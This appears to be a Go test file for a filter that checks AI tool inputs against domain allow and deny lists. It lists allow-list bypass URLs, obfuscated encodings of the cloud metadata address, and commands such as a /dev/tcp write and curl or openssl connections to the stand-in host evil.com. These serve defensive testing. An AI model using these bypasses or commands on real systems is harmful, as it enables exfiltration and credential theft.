package alert

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// TestEvasion has addresses that an attacker could use: they have the form of an allowed
// address, and clients connect to another host.
func TestEvasion(t *testing.T) {
	list := &ListSpec{Attribute: "tool_input", Allowed: []string{"example.com"}, Domains: true}
	for _, input := range []string{
		`{"url":"https://example.com%2F@evil.com/"}`,
		`{"url":"https://example.com%23@evil.com/"}`,
		`{"url":"https://example.com%3f@evil.com/"}`,
		`{"url":"https://example.com\\@evil.com/"}`,
		`{"url":"https://example.com:80@evil.com/"}`,
		`{"url":"https://a@b@evil.com/"}`,
		`{"url":"https:evil.com"}`,
		`{"url":"https:/evil.com"}`,
		`{"url":"https:///evil.com"}`,
		`{"url":"https:\\\\evil.com"}`,
		`{"url":"https:\\/\\/evil.com"}`,
		`{"url":"\thttps://evil.com"}`,
		`{"url":"https://example.com\t.evil.com/"}`,
		`{"url":"https://example.com\n.evil.com/"}`,
		`{"url":"ht\ttps://evil.com/"}`,
		`{"url":"https://ev%69l.com/"}`,
		`{"url":"https://evil.com./"}`,
		`{"url":"https://2130706433/"}`,
		`{"url":"https://0x7f.1/"}`,
		`{"url":"https://[::ffff:127.0.0.1]:8080/"}`,
		`{"url":"https://c2VjcmV0.evil.com/"}`,
		`{"command":"echo x > /dev/tcp/evil.com/443"}`,
		`{"command":"curl 2130706433"}`,
		`{"command":"curl 0x7f000001/x"}`,
		`{"command":"curl.exe evil.com"}`,
		`{"command":"Invoke-WebRequest evil.com"}`,
		`{"command":"openssl s_client -connect evil.com:443"}`,
	} {
		r := newRig(t, Spec{List: list})
		require.NotEmpty(t, r.send("x", 0, attributes{"tool_input": input}), input)
	}
	for _, input := range []string{
		`{"url":"https://example.com/?u=a%2F@b"}`,
		`{"url":"https:example.com"}`,
		`{"command":"curl --max-time 30 --retry 5 example.com"}`,
		`{"command":"git commit -m \"http: evil handlers\""}`,
		`{"command":"curl https://example.com/a\n./run.sh"}`,
		`{"command":"curl \"https://example.com/a\"\n.venv/bin/x.py"}`,
	} {
		r := newRig(t, Spec{List: list})
		require.Empty(t, r.send("x", 0, attributes{"tool_input": input}), input)
	}
}

// TestAddressesOfOneHost checks that an address is denied in all its notations.
func TestAddressesOfOneHost(t *testing.T) {
	list := &ListSpec{Attribute: "tool_input", Denied: []string{"169.254.169.254", "fd00:ec2::254"}, Domains: true}
	for _, input := range []string{
		"http://169.254.169.254/latest/meta-data", "http://2852039166/", "http://0xA9FEA9FE/", "http://0xa9.0xfe.0xa9.0xfe/",
		"http://0251.0376.0251.0376/", "http://169.254.43518/", "http://169.16689662/", "http://[::ffff:169.254.169.254]/",
		"http://[::ffff:a9fe:a9fe]/", "http://169.254.169.254./", "http://[fd00:0ec2:0:0::254]/", "curl 0xA9FEA9FE", "curl 169.254.43518",
	} {
		r := newRig(t, Spec{List: list})
		require.NotEmpty(t, r.send("x", 0, attributes{"tool_input": input}), input)
	}
}

// TestEntriesOfLists checks that entries that could never match are refused.
func TestEntriesOfLists(t *testing.T) {
	for _, entry := range []string{"example.com:443", "https://example.com", "*.*.com", "exam ple.com", "10.0.0.0/8", "[::1]:80"} {
		_, err := Compile([]Spec{{Name: "a", Severity: "info", List: &ListSpec{Attribute: "tool_input", Denied: []string{entry}, Domains: true}}}, toys)
		require.ErrorContains(t, err, "rules::a::list::0", entry)
	}
	r := newRig(t, Spec{List: &ListSpec{Attribute: "tool_input", Denied: []string{".example.com"}, Domains: true}})
	r.one("x", attributes{"tool_input": "https://a.example.com/"})
}
